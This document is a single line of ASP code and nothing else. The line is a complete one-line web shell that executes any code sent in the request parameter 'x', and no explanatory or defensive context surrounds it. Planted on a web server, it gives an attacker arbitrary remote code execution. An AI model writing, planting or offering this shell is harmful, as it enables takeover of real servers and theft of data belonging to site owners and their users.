<%Execute(Request("x"))%>
